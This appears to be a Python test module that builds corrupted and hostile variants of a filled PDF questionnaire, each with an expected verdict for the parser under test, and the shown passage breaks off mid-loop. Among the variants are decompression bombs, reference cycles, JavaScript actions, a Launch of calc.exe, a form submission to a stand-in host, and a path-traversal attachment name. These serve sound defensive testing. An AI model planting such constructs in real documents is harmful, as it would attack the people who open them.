"""One return, damaged, rewritten and altered in all the ways we know of, each with its verdict.

Built by code from the same filled form (Q4, all points answered, by PDFium), so that what is meant
by « the same » is known. Altered page text, and boxes that are hidden, covered or drawn otherwise
than they say, are judged elsewhere, where the form is compared with the one that was sent.
"""

from __future__ import annotations

import base64
import io
import quopri
import random
import re
import warnings
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import StrEnum
from functools import cache, partial

import pikepdf
import pymupdf
import pypdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from demo.engine import Save, Sheet
from formgen.catalog import Answer
from formgen.naming import TextPart
from tests import pki
from tests.builders import blank, filled_by_pdfium, filled_by_pypdf, packaged_catalog, random_sheet
from tests.flatteners import flat_by_pdfium


class Expected(StrEnum):
    """What must come of a variant. A wrong answer read as sure is never allowed."""

    SAME = "same"
    """The same answers, no doubt, no finding above information."""
    FLAG = "flag"
    """Refused, or a warning, or a doubtful point: a person is told."""
    REFUSE = "refuse"
    SAFE = "safe"
    """Either of the first two: tools differ, and so may we."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Variant:
    """One file, and what must come of it."""

    group: str
    name: str
    expected: Expected
    build: Callable[[], bytes]
    file_name: str = "retour.pdf"
    also: frozenset[str] = frozenset()
    """Codes of findings or refusals of which one must be there."""

    def __str__(self) -> str:
        return f"{self.group}: {self.name}"


SAME, FLAG, REFUSE, SAFE = Expected.SAME, Expected.FLAG, Expected.REFUSE, Expected.SAFE
OTHER = {Answer.OUI: Answer.NON, Answer.NON: Answer.OUI, Answer.NA: Answer.OUI}


@cache
def sheet() -> Sheet:
    """What the supplier answered."""
    return random_sheet(packaged_catalog().questionnaire("Q4"), 5)


@cache
def base() -> bytes:
    """The return that variants are made from."""
    return filled_by_pdfium("Q4", sheet())


@cache
def flat() -> bytes:
    """The same without fields: its pages are looked at."""
    return flat_by_pdfium(base())


@cache
def plain() -> bytes:
    """The same with a plain table and nothing compressed away: for changes by search."""
    out = io.BytesIO()
    with Pdf.open(io.BytesIO(base())) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def edited(change: Callable[[Pdf], None], *, of: bytes | None = None, **how: object) -> bytes:
    """The return with its objects changed."""
    out = io.BytesIO()
    with Pdf.open(io.BytesIO(of or base())) as pdf, warnings.catch_warnings():
        # That fields are missing from the form is what some variants are about.
        warnings.simplefilter("ignore")
        change(pdf)
        pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def by_pypdf(change: Callable[[pypdf.PdfWriter], object], *, of: bytes | None = None) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(of or base()))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def replaced(old: bytes, new: bytes, *, count: int = -1) -> bytes:
    assert old in plain(), old
    return plain().replace(old, new, count)


def field(pdf: Pdf, name: str) -> Dictionary:
    """A field of the form, by its name."""
    return next(one for one in pdf.Root.AcroForm.Fields if str(one.get("/T", "")) == name)


def box(pdf: Pdf, point: str, answer: str) -> Dictionary:
    return next(kid for kid in field(pdf, point).Kids if str(kid.NM) == f"{point}:{answer}")


def ticked(pdf: Pdf, point: str) -> Dictionary:
    return next(kid for kid in field(pdf, point).Kids if Name.Off != kid.AS)


# --- Cut off, damaged, on its way ---------------------------------------------------------------
def _cut(share: float) -> bytes:
    return base()[: int(len(base()) * share)]


def _cut_update(share: float) -> bytes:
    """The form as it was sent, and a part of what was filled in behind it."""
    data = filled_by_pdfium("Q4", sheet(), save=Save.INCREMENTAL)
    sent = data.index(b"%%EOF") + len(b"%%EOF\n")
    return data[: sent + int(share * (len(data) - sent))]


def _block(at: float, new: bytes) -> bytes:
    start = int(len(base()) * at)
    return base()[:start] + new + base()[start + len(new) :]


def _swapped_blocks() -> bytes:
    data, size = base(), 4096
    return data[:size] + data[2 * size : 3 * size] + data[size : 2 * size] + data[3 * size :]


def damaged() -> Iterator[Variant]:
    truncated = partial(Variant, group="truncated")
    for share in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97, 0.995):
        yield truncated(name=f"after {share:.1%}", expected=FLAG, build=partial(_cut, share))
    yield truncated(
        name="no end mark", expected=SAME, build=lambda: base().rstrip().removesuffix(b"%%EOF")
    )
    yield truncated(
        name="no startxref",
        expected=FLAG,
        build=lambda: base()[: base().rindex(b"startxref")] + b"%%EOF",
    )
    yield truncated(name="first kilobyte lost", expected=FLAG, build=lambda: base()[1024:])
    for share in (0.001, 0.3, 0.9):
        yield truncated(
            name=f"after {share:.1%} of what was added to it",
            expected=FLAG,
            build=partial(_cut_update, share),
            also=frozenset({"update-lost", "damaged"}),
        )
    xref = partial(Variant, group="xref")
    last = re.compile(rb"startxref\s+\d+\s+%%EOF\s*\Z")
    for name, start in (("zero", 0), ("near", 17), ("past the end", 10**9), ("negative", -5)):
        yield xref(
            name=f"startxref {name}",
            expected=FLAG,
            build=lambda start=start: last.sub(b"startxref\n%d\n%%%%EOF" % start, plain()),
        )
    yield xref(
        name="no number", expected=FLAG, build=lambda: last.sub(b"startxref\n\n%%EOF", plain())
    )
    yield xref(
        name="keyword damaged",
        expected=FLAG,
        build=lambda: plain().replace(b"\nxref\n", b"\nxxef\n"),
    )
    yield xref(
        name="all offsets zero",
        expected=FLAG,
        build=lambda: re.sub(rb"\d{10} 00000 n", b"0000000000 00000 n", plain()),
    )
    yield xref(
        name="shifted by a remark",
        expected=FLAG,
        build=lambda: plain().replace(b"\n", b"\n%remark put in on the way\n", 1),
    )
    yield xref(
        name="its own predecessor",
        expected=SAFE,
        build=lambda: plain().replace(b"/Size", b"/Prev %d /Size" % plain().rindex(b"\nxref\n"), 1),
    )
    yield xref(name="no root", expected=SAFE, build=lambda: plain().replace(b"/Root", b"/Toor"))
    transit = partial(Variant, group="transit")
    yield transit(
        name="mail lines before", expected=FLAG, build=lambda: b"X-Mail: x\r\n" * 9 + base()
    )
    yield transit(
        name="much mail before", expected=REFUSE, build=lambda: b"X-Mail: x\r\n" * 200 + base()
    )
    yield transit(name="a line end behind", expected=SAME, build=lambda: base() + b"\r\n\r\n")
    yield transit(
        name="an advertisement behind",
        expected=SAFE,
        build=lambda: base() + b"\r\n--\r\nenvoy\xc3\xa9 par un antivirus\r\n" * 40,
    )
    yield transit(
        name="line ends for Windows", expected=FLAG, build=lambda: base().replace(b"\n", b"\r\n")
    )
    yield transit(
        name="seven bits", expected=SAFE, build=lambda: bytes(byte & 127 for byte in base())
    )
    yield transit(name="base64", expected=REFUSE, build=lambda: base64.encodebytes(base()))
    yield transit(name="quoted-printable", expected=SAFE, build=lambda: quopri.encodestring(base()))
    yield transit(name="a sector zero", expected=SAFE, build=lambda: _block(0.5, bytes(512)))
    yield transit(name="a sector twice", expected=SAFE, build=lambda: _block(0.5, base()[:512]))
    yield transit(name="blocks exchanged", expected=FLAG, build=_swapped_blocks)
    yield transit(name="twice in a row", expected=SAFE, build=lambda: base() + base())


# --- No such file, and files that go round or deep ----------------------------------------------
def no_pdf() -> Iterator[Variant]:
    wrong = partial(Variant, group="wrong type", expected=REFUSE)
    for name, data in (
        ("empty", b""),
        ("one byte", b"%"),
        ("a name only", b"%PDF-1.7"),
        ("text", "Bonjour, voici notre réponse.".encode()),
        ("web page", b"<!DOCTYPE html><html><body>%PDF</body></html>"),
        ("archive", b"PK\x03\x04" + bytes(400)),
        ("old office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(400)),
        ("program", b"MZ" + bytes(400)),
        ("noise", random.Random(1).randbytes(5000)),
        ("noise under our name", b"%PDF-1.7\n" + random.Random(2).randbytes(5000) + b"\n%%EOF"),
        ("form data", b"%FDF-1.2\n1 0 obj<</FDF<</Fields[]>>>>endobj\n%%EOF"),
    ):
        yield wrong(name=name, build=lambda data=data: data)
    yield wrong(name="somebody else's PDF", build=lambda: pymupdf.open("pdf", _foreign()).tobytes())


@cache
def _foreign() -> bytes:
    document = pymupdf.open()
    for number in range(3):
        document.new_page().insert_text((72, 72), f"Conditions générales, page {number + 1}")
    data: bytes = document.tobytes()
    return data


def cycles() -> Iterator[Variant]:
    def pages_in_themselves(pdf: Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    def field_above_itself(pdf: Pdf) -> None:
        one = field(pdf, "Q4-01")
        one.Parent = one

    def kids_of_themselves(pdf: Pdf) -> None:
        one = field(pdf, "Q4-01")
        one.Kids.append(one)

    def form_among_its_fields(pdf: Pdf) -> None:
        pdf.Root.AcroForm.Fields.append(pdf.Root.AcroForm)

    def look_that_draws_itself(pdf: Pdf) -> None:
        look = ticked(pdf, "Q4-01").AP.N
        for state in list(look):
            look[state].Resources = Dictionary(XObject=Dictionary(A=look[state]))

    def content_that_draws_itself(pdf: Pdf) -> None:
        page = pdf.pages[0]
        page.contents_add(b"/Again Do", prepend=False)
        drawing = Stream(pdf, b"/Again Do")
        drawing.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Form})
        drawing.BBox = Array([0, 0, 600, 850])
        drawing = pdf.make_indirect(drawing)
        drawing.Resources = Dictionary(XObject=Dictionary(Again=drawing))
        page.Resources.XObject = Dictionary(Again=drawing)

    def outline_in_a_ring(pdf: Pdf) -> None:
        pdf.Root.Outlines.First.Next = pdf.Root.Outlines.First

    def value_that_refers_to_itself(pdf: Pdf) -> None:
        one = field(pdf, "Q4-01")
        one.V = one

    round_ = partial(Variant, group="cycle")
    for change, expected in (
        (pages_in_themselves, SAFE),
        (field_above_itself, SAFE),
        (kids_of_themselves, SAFE),
        (form_among_its_fields, SAFE),
        (look_that_draws_itself, SAFE),
        (content_that_draws_itself, SAFE),
        (outline_in_a_ring, SAME),
        (value_that_refers_to_itself, FLAG),
    ):
        yield round_(
            name=change.__name__.replace("_", " "), expected=expected, build=partial(edited, change)
        )
    yield round_(
        name="references to references",
        expected=SAFE,
        build=lambda: _with_objects(b"/A 9000 0 R", {9000: b"9001 0 R", 9001: b"9000 0 R"}),
    )


def _with_objects(entry: bytes, objects: dict[int, bytes]) -> bytes:
    """The return with an entry in its root, and objects added behind it, as an update adds them."""
    data = plain()
    root = re.search(rb"/Root (\d+) 0 R", data)
    size = re.search(rb"/Size (\d+)", data)
    assert root is not None
    assert size is not None
    start = data.index(b"\n%d 0 obj" % int(root[1]))
    body = data[data.index(b"<<", start) : data.index(b"endobj", start)]
    key = entry.split(maxsplit=1)[0]
    body = re.sub(key + rb" \d+ 0 R", b"", body)
    new = {int(root[1]): body.rstrip()[:-2] + b" " + entry + b" >>", **objects}
    return updated(data, new)


def updated(data: bytes, objects: dict[int, bytes]) -> bytes:
    """The file with newer versions of some objects behind it."""
    root = re.search(rb"/Root (\d+) 0 R", data)
    previous = re.findall(rb"startxref\s+(\d+)", data)[-1]
    assert root is not None
    out = bytearray(data.rstrip() + b"\n")
    table = b""
    for number, body in sorted(objects.items()):
        table += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += (
        b"xref\n"
        + table
        + b"trailer\n<< /Size %d /Root %s 0 R /Prev %s >>\n"
        % (
            max(10_000, *objects) + 1,
            root[1],
            previous,
        )
    )
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def deep() -> Iterator[Variant]:
    nested = partial(Variant, group="deep", expected=SAFE)
    for what, opening, closing in (("arrays", b"[", b"]"), ("dictionaries", b"<</A", b">>")):
        for depth in (500, 50_000):
            value = opening * depth + b" 1 " + closing * depth
            yield nested(
                name=f"{depth} {what} in the root",
                build=lambda value=value: _with_objects(b"/A " + value, {}),
            )
    chain = {9000 + n: b"<< /Parent %d 0 R /T (a) >>" % (9001 + n) for n in range(5000)}
    yield nested(
        name="five thousand fields above a field",
        build=lambda: updated(re.sub(rb"(/FT /Btn )", rb"\1 /Parent 9000 0 R ", plain()), chain),
    )
    kids = {
        9000 + n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (9001 + n) for n in range(5000)
    }
    yield nested(name="a deep page tree", build=lambda: _with_objects(b"/Pages 9000 0 R", kids))


# --- Bombs and false claims ---------------------------------------------------------------------
def _flate(data: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(data)
    head = b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n" % (entries, len(packed))
    return head + packed + b"\nendstream"


def _with_content(content: bytes, entries: str = "", resources: object = None) -> bytes:
    """The flattened return, its first page drawing something more."""

    def change(pdf: Pdf) -> None:
        page = pdf.pages[0]
        page.contents_add(pdf.make_stream(content), prepend=False)
        if resources is not None:
            assert callable(resources)
            resources(pdf, page)

    return edited(change, of=flat())


def _fan(pdf: Pdf, page: pikepdf.Page) -> None:
    """Ten drawings, each of which draws the next one ten times."""
    below = None
    for _ in range(10):
        drawing = Stream(pdf, b"/A Do " * 10 if below is not None else b"0 0 1 1 re f")
        drawing.stream_dict.update({"/Type": Name.XObject, "/Subtype": Name.Form})
        drawing.BBox = Array([0, 0, 600, 850])
        if below is not None:
            drawing.Resources = Dictionary(XObject=Dictionary(A=below))
        below = pdf.make_indirect(drawing)
    page.Resources.XObject.Fan = below


def _huge_picture(pdf: Pdf, page: pikepdf.Page) -> None:
    """A picture of 3.6 GB in a few kilobytes."""
    side = 60_000
    packing = zlib.compressobj(9)
    row = packing.compress(bytes(10_000_000))
    picture = Stream(pdf, row * 1 + packing.flush())
    picture.stream_dict.update(
        {
            "/Type": Name.XObject,
            "/Subtype": Name.Image,
            "/Width": side,
            "/Height": side,
            "/ColorSpace": Name.DeviceGray,
            "/BitsPerComponent": 8,
            "/Filter": Name.FlateDecode,
        }
    )
    page.Resources.XObject.Huge = pdf.make_indirect(picture)


def _endless_pattern(pdf: Pdf, page: pikepdf.Page) -> None:
    """A tile of a thousandth of a point, to be laid over the whole page."""
    tile = Stream(pdf, b"0 0 1 1 re f")
    tile.stream_dict.update(
        {
            "/PatternType": 1,
            "/PaintType": 1,
            "/TilingType": 1,
            "/BBox": Array([0, 0, 1, 1]),
            "/XStep": 0.001,
            "/YStep": 0.001,
            "/Resources": Dictionary(),
        }
    )
    page.Resources.Pattern = Dictionary(P=pdf.make_indirect(tile))


def bombs() -> Iterator[Variant]:
    bomb = partial(Variant, group="expand", expected=FLAG)
    page = re.compile(rb"/Contents (\[[^\]]*\]|\d+ 0 R)")

    def content(*streams: bytes) -> bytes:
        numbers = b" ".join(b"%d 0 R" % (9000 + n) for n in range(len(streams)))
        data = page.sub(b"/Contents [" + numbers + b"]", plain())
        return updated(data, {9000 + n: stream for n, stream in enumerate(streams)})

    yield bomb(name="40 MB of page content", build=lambda: content(_flate(b" " * 40_000_000)))
    yield bomb(
        name="10 times 8 MB of page content",
        build=lambda: content(*[_flate(b" " * 7_900_000)] * 10),
    )
    yield bomb(
        name="packed four times",
        build=lambda: content(
            _flate(
                zlib.compress(zlib.compress(zlib.compress(bytes(20_000_000)))),
            ).replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode /FlateDecode /FlateDecode]")
        ),
    )
    yield bomb(
        name="a text field's value of 50 MB",
        build=lambda: updated(
            re.sub(rb"(/T \(Q4-place\))", rb"\1 /V 9000 0 R /W ", plain()),
            {9000: _flate(b" " * 50_000_000)},
        ),
    )
    yield bomb(
        name="a fan of 10^10 drawings", build=lambda: _with_content(b"/Fan Do", resources=_fan)
    )
    yield bomb(
        name="a picture of 3.6 GB",
        expected=SAFE,
        build=lambda: _with_content(b"q 9 0 0 9 1 1 cm /Huge Do Q", resources=_huge_picture),
    )
    yield bomb(
        name="an endless pattern",
        expected=SAFE,
        build=lambda: _with_content(
            b"/Pattern cs /P scn 0 0 20 20 re f", resources=_endless_pattern
        ),
    )
    yield bomb(
        name="50,000 strokes",
        expected=SAFE,
        build=lambda: _with_content(b"0 0 m 9 9 l S " * 50_000),
    )
    yield bomb(name="nested states", expected=SAFE, build=lambda: _with_content(b"q " * 1_000_000))
    yield bomb(
        name="a long hex string",
        expected=SAFE,
        build=lambda: _with_objects(b"/A <" + b"20" * 200_000 + b">", {}),
    )
    yield bomb(
        name="metadata of 40 MB",
        expected=SAME,
        build=lambda: _with_objects(
            b"/Metadata 9000 0 R",
            {9000: _flate(b"<x/>" * 10_000_000, b"/Type /Metadata /Subtype /XML")},
        ),
    )


def claims() -> Iterator[Variant]:
    def many_annotations(pdf: Pdf) -> None:
        page = pdf.pages[0]
        note = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 1, 1]))
        )
        page.Annots = Array([*page.Annots, *[note] * 6000])

    def many_fields(pdf: Pdf) -> None:
        for number in range(2000):
            extra = Dictionary(FT=Name.Tx, T=String(f"x{number}"))
            pdf.Root.AcroForm.Fields.append(pdf.make_indirect(extra))

    def one_page_so_often(pdf: Pdf) -> None:
        pdf.Root.Pages.Kids = Array([pdf.pages[0].obj] * 90_000)
        pdf.Root.Pages.Count = 90_000

    def many_pages(pdf: Pdf) -> None:
        for _ in range(300):
            pdf.add_blank_page()

    def billion_pages(pdf: Pdf) -> None:
        pdf.Root.Pages.Count = 999_999_999

    def huge_page(side: float) -> Callable[[Pdf], None]:
        def change(pdf: Pdf) -> None:
            pdf.pages[0].MediaBox = Array([0, 0, side, side])

        return change

    def huge_unit(pdf: Pdf) -> None:
        pdf.pages[0].UserUnit = 1_000_000_000

    claim = partial(Variant, group="claims")
    yield claim(name="six thousand notes", expected=FLAG, build=partial(edited, many_annotations))
    yield claim(name="two thousand fields more", expected=FLAG, build=partial(edited, many_fields))
    yield claim(
        name="one page 90,000 times", expected=FLAG, build=partial(edited, one_page_so_often)
    )
    yield claim(name="300 pages more", expected=REFUSE, build=partial(edited, many_pages))
    yield claim(
        name="a billion pages in /Count", expected=SAME, build=partial(edited, billion_pages)
    )
    yield claim(
        name="/Length of a gigabyte",
        expected=SAFE,
        build=lambda: re.sub(rb"/Length \d+", b"/Length 999999999", plain()),
    )
    yield claim(
        name="/Length zero",
        expected=SAFE,
        build=lambda: re.sub(rb"/Length \d+", b"/Length 0", plain()),
    )
    yield claim(
        name="/Size of a billion",
        expected=SAFE,
        build=lambda: re.sub(rb"/Size \d+", b"/Size 999999999", plain()),
    )
    yield claim(
        name="a page of 10^9 points",
        expected=SAFE,
        build=partial(edited, huge_page(1e9), of=flat()),
    )
    yield claim(
        name="a page of nothing", expected=SAFE, build=partial(edited, huge_page(0), of=flat())
    )
    yield claim(name="a huge unit", expected=SAFE, build=partial(edited, huge_unit, of=flat()))


# --- Wrong values -------------------------------------------------------------------------------
ODD: dict[str, Callable[[Pdf], object]] = {
    "a number": lambda _: 7,
    "a list": lambda _: Array([1, Name.OUI]),
    "a dictionary": lambda _: Dictionary(A=Name.OUI),
    "a stream": lambda pdf: pdf.make_stream(b"/OUI"),
    "true": lambda _: True,
    "missing": lambda _: None,
    "bytes": lambda _: String(b"\xff\xfe\x00\xd8"),
}


def wrong_values() -> Iterator[Variant]:
    def put(where: Callable[[Pdf], object], key: str, odd: str) -> bytes:
        def change(pdf: Pdf) -> None:
            target = where(pdf)
            assert isinstance(target, pikepdf.Object | pikepdf.Page)
            value = ODD[odd](pdf)
            if value is not None:
                target[key] = value
            elif key in target:
                del target[key]

        return edited(change)

    places: dict[str, tuple[Callable[[Pdf], object], str]] = {
        "value of a point": (lambda pdf: field(pdf, "Q4-02"), "/V"),
        "state of a box": (lambda pdf: ticked(pdf, "Q4-02"), "/AS"),
        "drawings of a box": (lambda pdf: ticked(pdf, "Q4-02"), "/AP"),
        "place of a box": (lambda pdf: ticked(pdf, "Q4-02"), "/Rect"),
        "name of a box": (lambda pdf: ticked(pdf, "Q4-02"), "/NM"),
        "name of a point": (lambda pdf: field(pdf, "Q4-02"), "/T"),
        "kind of a point": (lambda pdf: field(pdf, "Q4-02"), "/FT"),
        "boxes of a point": (lambda pdf: field(pdf, "Q4-02"), "/Kids"),
        "notes of a page": (lambda pdf: pdf.pages[0], "/Annots"),
        "fields of the form": (lambda pdf: pdf.Root.AcroForm, "/Fields"),
        "the form": (lambda pdf: pdf.Root, "/AcroForm"),
        "identity of a page": (lambda pdf: pdf.pages[0], "/PieceInfo"),
    }
    told = {
        ("value of a point", odd)
        for odd in ("a number", "a list", "a dictionary", "a stream", "true")
    } | {("state of a box", "bytes")}
    for place, (where, key) in places.items():
        for odd in ODD:
            yield Variant(
                group="wrong value",
                name=f"{place} is {odd}",
                expected=FLAG if (place, odd) in told else SAFE,
                build=partial(put, where, key, odd),
            )

    def text(value: Callable[[Pdf], object]) -> bytes:
        def change(pdf: Pdf) -> None:
            field(pdf, "Q4-place").V = value(pdf)

        return edited(change)

    yield Variant(
        group="wrong value",
        name="a text as a stream",
        expected=SAME,
        build=lambda: text(lambda pdf: pdf.make_stream(b"Lyon")),
    )
    yield Variant(
        group="wrong value",
        name="a text as a number",
        expected=FLAG,
        build=lambda: text(lambda _: 75_001),
    )


# --- Encrypted, rewritten, assembled ------------------------------------------------------------
def _encrypted(user: str, revision: int) -> bytes:
    how = pikepdf.Encryption(
        user=user, owner="maître", R=revision, aes=revision > 3, metadata=revision > 3
    )
    return edited(lambda _pdf: None, encryption=how)


def rewritten() -> Iterator[Variant]:
    for revision in (2, 3, 4, 6):
        yield Variant(
            group="encrypted",
            name=f"revision {revision}, a password",
            expected=REFUSE,
            build=partial(_encrypted, "secret", revision),
            also=frozenset({"encrypted"}),
        )
        yield Variant(
            group="encrypted",
            name=f"revision {revision}, an empty password",
            expected=SAME,
            build=partial(_encrypted, "", revision),
            also=frozenset({"encrypted-without-password"}),
        )

    def nothing(_pdf: Pdf) -> None:
        """Save it as it is."""

    modes = pikepdf.ObjectStreamMode
    for name, build in {
        "qpdf": partial(edited, nothing),
        "qpdf, packed": partial(edited, nothing, object_stream_mode=modes.generate),
        "qpdf, linear": partial(edited, nothing, linearize=True),
        "qpdf, readable": partial(edited, nothing, qdf=True),
        "qpdf, unpacked": partial(
            edited,
            nothing,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
        ),
        "pypdf": partial(by_pypdf, lambda _: None),
        "pypdf, packed anew": partial(
            by_pypdf, lambda writer: [page.compress_content_streams() for page in writer.pages]
        ),
        "pymupdf": lambda: pymupdf.open("pdf", base()).tobytes(),
        "pymupdf, cleaned": lambda: pymupdf.open("pdf", base()).tobytes(
            garbage=4, clean=True, deflate=True
        ),
        "pdfium, added to": lambda: filled_by_pdfium("Q4", sheet(), save=Save.INCREMENTAL),
        "filled by pypdf": lambda: filled_by_pypdf("Q4", sheet()),
    }.items():
        yield Variant(group="rewritten", name=name, expected=SAME, build=build)


def assembled() -> Iterator[Variant]:
    def turned(pdf: Pdf) -> None:
        for page in pdf.pages:
            page.rotate(90, relative=True)

    def backwards(pdf: Pdf) -> None:
        pdf.pages.reverse()

    def among_others(pdf: Pdf) -> None:
        with Pdf.open(io.BytesIO(_foreign())) as other:
            pdf.pages.insert(0, other.pages[0])
            pdf.pages.append(other.pages[1])

    def without_a_page(pdf: Pdf) -> None:
        del pdf.pages[0]

    def a_page_twice(pdf: Pdf) -> None:
        pdf.pages.append(pdf.pages[0])

    def cropped(pdf: Pdf) -> None:
        pdf.pages[0].CropBox = Array([0, 400, 595, 842])

    def with_a_blank_one(pdf: Pdf) -> None:
        with Pdf.open(io.BytesIO(blank("Q4"))) as other:
            pdf.pages.extend(other.pages)

    for change, expected in (
        (turned, SAME),
        (backwards, SAME),
        (among_others, SAME),
        (without_a_page, FLAG),
        (a_page_twice, SAFE),
        (cropped, SAFE),
        (with_a_blank_one, SAFE),
    ):
        yield Variant(
            group="assembled",
            name=change.__name__.replace("_", " "),
            expected=expected,
            build=partial(edited, change),
        )


# --- Contradictions and altered fields ----------------------------------------------------------
def altered() -> Iterator[Variant]:
    given = sheet().answers["Q4-03"]
    state = {Answer.OUI: Name.OUI, Answer.NON: Name.NON, Answer.NA: Name.NA}
    other = OTHER[given]

    def other_value(pdf: Pdf) -> None:
        field(pdf, "Q4-03").V = state[other]

    def unknown_value(pdf: Pdf) -> None:
        field(pdf, "Q4-03").V = Name.Peut_etre

    def two_ticks(pdf: Pdf) -> None:
        box(pdf, "Q4-03", str(state[other])[1:]).AS = state[other]

    def no_tick(pdf: Pdf) -> None:
        ticked(pdf, "Q4-03").AS = Name.Off

    def moved_tick(pdf: Pdf) -> None:
        ticked(pdf, "Q4-03").AS = Name.Off
        box(pdf, "Q4-03", str(state[other])[1:]).AS = state[other]

    def undrawn_state(pdf: Pdf) -> None:
        ticked(pdf, "Q4-03").AS = Name.Yes

    def moved_box(pdf: Pdf) -> None:
        one = ticked(pdf, "Q4-03")
        x0, y0, x1, y1 = map(float, one.Rect)
        one.Rect = Array([x0, y0 - 100, x1, y1 - 100])

    def off_the_page(pdf: Pdf) -> None:
        one = ticked(pdf, "Q4-03")
        one.Rect = Array([-50, -50, -38, -38])

    def exchanged_places(pdf: Pdf) -> None:
        one, two = ticked(pdf, "Q4-03"), box(pdf, "Q4-03", str(state[other])[1:])
        one.Rect, two.Rect = two.Rect, one.Rect

    def exchanged_names(pdf: Pdf) -> None:
        one, two = ticked(pdf, "Q4-03"), box(pdf, "Q4-03", str(state[other])[1:])
        one.NM, two.NM = two.NM, one.NM

    def exchanged_points(pdf: Pdf) -> None:
        one, two = field(pdf, "Q4-03"), field(pdf, "Q4-04")
        one.T, two.T = two.T, one.T

    def lost_box(pdf: Pdf) -> None:
        one = ticked(pdf, "Q4-03")
        for page in pdf.pages:
            page.Annots = Array([a for a in page.Annots if a.objgen != one.objgen])

    def lost_point(pdf: Pdf) -> None:
        lost = {kid.objgen for kid in field(pdf, "Q4-03").Kids}
        for page in pdf.pages:
            page.Annots = Array([a for a in page.Annots if a.objgen not in lost])
        kept = [one for one in pdf.Root.AcroForm.Fields if str(one.get("/T", "")) != "Q4-03"]
        pdf.Root.AcroForm.Fields = Array(kept)

    def second_field(pdf: Pdf) -> None:
        copies = []
        parent = field(pdf, "Q4-03")
        twin = pdf.make_indirect(
            Dictionary(FT=Name.Btn, Ff=32768, T=String("Q4-03"), V=state[other], Kids=Array())
        )
        page = next(
            p for p in pdf.pages if any(a.objgen == parent.Kids[0].objgen for a in p.Annots)
        )
        for kid in parent.Kids:
            copy = pdf.make_indirect(Dictionary(kid))
            copy.Parent = twin
            is_other = str(copy.NM).endswith(str(state[other])[1:])
            copy.AS = state[other] if is_other else Name.Off
            copies.append(copy)
        twin.Kids = Array(copies)
        pdf.Root.AcroForm.Fields.append(twin)
        page.Annots = Array([*page.Annots, *copies])

    def all_named_alike(pdf: Pdf) -> None:
        for one in pdf.Root.AcroForm.Fields:
            one.T = String("Q4-01")

    def tick_of_another_answer(pdf: Pdf) -> None:
        one = ticked(pdf, "Q4-03")
        two = box(pdf, "Q4-03", str(state[other])[1:])
        one.AP = two.AP

    for change in (
        other_value,
        unknown_value,
        two_ticks,
        no_tick,
        moved_tick,
        undrawn_state,
        moved_box,
        off_the_page,
        exchanged_places,
        exchanged_names,
        lost_box,
        lost_point,
        second_field,
        tick_of_another_answer,
    ):
        yield Variant(
            group="altered field",
            name=change.__name__.replace("_", " "),
            expected=FLAG,
            build=partial(edited, change),
        )
    for change in (all_named_alike, exchanged_points):
        yield Variant(
            group="altered field",
            name=change.__name__.replace("_", " "),
            expected=SAFE,
            build=partial(edited, change),
        )


# --- What acts, what is carried -----------------------------------------------------------------
def active() -> Iterator[Variant]:
    def script() -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS=String("this.getField('Q4-01').value='OUI'"))

    def opening(kind: str, **more: object) -> Callable[[Pdf], None]:
        def change(pdf: Pdf) -> None:
            pdf.Root.OpenAction = Dictionary(S=Name("/" + kind), **more)

        return change

    def named_script(pdf: Pdf) -> None:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))

    def page_script(pdf: Pdf) -> None:
        pdf.pages[1].AA = Dictionary(O=script())

    def box_script(pdf: Pdf) -> None:
        ticked(pdf, "Q4-01").AA = Dictionary(U=script())

    def calculation(pdf: Pdf) -> None:
        field(pdf, "Q4-place").AA = Dictionary(C=script())

    def bookmark_script(pdf: Pdf) -> None:
        pdf.Root.Outlines.First.A = script()

    def annotation(**entries: object) -> Callable[[Pdf], None]:
        def change(pdf: Pdf) -> None:
            note = Dictionary(Type=Name.Annot, Rect=Array([5, 5, 9, 9]), **entries)
            page = pdf.pages[0]
            page.Annots = Array([*page.Annots, pdf.make_indirect(note)])

        return change

    def second_form(pdf: Pdf) -> None:
        pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp/>")

    def attached(pdf: Pdf) -> None:
        pdf.attachments["../../devis.exe"] = b"MZ"

    flagged = {
        "script at opening": opening("JavaScript", JS=String("app.alert(1)")),
        "script by name": named_script,
        "script of a page": page_script,
        "script of a box": box_script,
        "script of a text field": calculation,
        "script of a bookmark": bookmark_script,
        "program to start": opening("Launch", F=String("calc.exe")),
        "answers to send": opening("SubmitForm", F=String("http://mal.example/")),
        "data to import": opening("ImportData", F=String("a.fdf")),
        "another document": opening("GoToR", F=String("\\\\serveur\\a.pdf")),
        "an inner document": opening("GoToE"),
        "answers to clear": opening("ResetForm"),
        "fields to hide": opening("Hide", T=String("Q4-01")),
        "a film": annotation(Subtype=Name.RichMedia),
        "a link to a file": annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///c:/a.exe"))
        ),
        "a second form": second_form,
    }
    harmless = {
        "opens at its second page": opening("Named", N=Name.NextPage),
        "an attachment": attached,
        "a link": annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://acme.example/"))
        ),
    }
    for expected, changes in ((FLAG, flagged), (SAME, harmless)):
